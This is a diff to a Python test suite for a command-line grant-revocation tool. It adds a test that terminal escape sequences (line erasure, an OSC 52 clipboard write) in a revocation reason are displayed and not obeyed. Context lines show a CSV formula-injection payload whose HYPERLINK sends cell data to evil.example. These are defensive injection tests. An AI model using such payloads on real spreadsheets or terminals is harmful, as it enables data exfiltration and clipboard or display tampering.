@@ -218,3 +218,18 @@ def test_free_text_never_becomes_a_spreadsheet_formula(sqlite_vault: Harness) ->
     (row,) = list(csv.DictReader(io.StringIO(
         sqlite_vault.ok("report", "revocations", "--format", "csv").out)))
     assert row["reason"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_free_text_never_drives_the_terminal(sqlite_vault: Harness) -> None:
+    """A reason with ESC sequences (erase the line above, OSC 52 clipboard) is shown, not obeyed."""
+    from tests.conftest import add_client, import_grant
+
+    add_client(sqlite_vault)
+    import_grant(sqlite_vault)
+    sqlite_vault.ok("grant", "revoke", "help@contoso.com", "--reason",
+                    "gone\x1b[1A\x1b[2K\x1b]52;c;ZXZpbA==\x07")
+    for args in (("report", "revocations"), ("grant", "show", "help@contoso.com"),
+                 ("report", "audit", "--mailbox", "help@contoso.com")):
+        out = sqlite_vault.ok(*args).out
+        assert "\x1b" not in out and "\x07" not in out, args
+    assert "gone\\x1b[1A\\x1b[2K" in sqlite_vault.ok("report", "revocations").out
